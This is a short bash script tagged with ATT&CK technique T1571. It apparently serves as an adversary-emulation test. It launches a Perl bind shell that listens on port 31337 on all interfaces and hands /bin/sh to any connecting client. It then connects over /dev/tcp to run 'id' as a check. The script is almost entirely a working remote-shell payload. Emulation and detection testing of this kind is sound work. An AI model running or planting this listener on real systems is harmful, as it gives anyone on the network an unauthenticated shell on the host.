#!/bin/bash
# T1571: A shell waits at a port for whoever comes.
perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);setsockopt(S,SOL_SOCKET,SO_REUSEADDR,1);bind(S,sockaddr_in(31337,INADDR_ANY));listen(S,1);accept(C,S);open(STDIN,"<&C");open(STDOUT,">&C");open(STDERR,">&C");exec("/bin/sh")' &
sleep 0.5
exec 5<>/dev/tcp/127.0.0.1/31337; echo 'id; exit' >&5; timeout 2 cat <&5; wait
